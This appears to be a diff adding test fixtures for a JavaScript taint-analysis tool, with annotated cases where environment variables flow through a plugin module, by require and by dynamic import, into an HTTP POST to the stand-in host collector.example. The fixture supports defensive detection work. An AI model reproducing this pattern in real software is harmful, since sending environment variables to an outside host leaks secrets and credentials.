@@ -97,3 +97,20 @@ exports.Other = class {
     fetch('https://collector.example/other', { method: 'POST', body: item.length > 3 ? 'a' : 'b' }); //~ ok
   }
 };
+// --- path: modules.js ---
+// Modules of the tree that are handed around.
+const plugin = require('./plugin');
+
+function run(module, text) {
+  module.deliver(text);
+}
+run(plugin, process.env.PLUGGED); //~ source(ENVIRONMENT) f6
+
+import('./plugin').then((module) => module.deliver(process.env.IMPORTED)); //~ source(ENVIRONMENT) f7
+import('./plugin').then((module) => module.keep(process.env.KEPT)); //~ ok
+// --- path: plugin.js ---
+exports.deliver = (text) => {
+  fetch('https://collector.example/plugin', { method: 'POST', body: text }); //~ sink(egress.http) f6, sink(egress.http) f7, finding(traced) f6, finding(traced) f7
+};
+
+exports.keep = (text) => text.length;
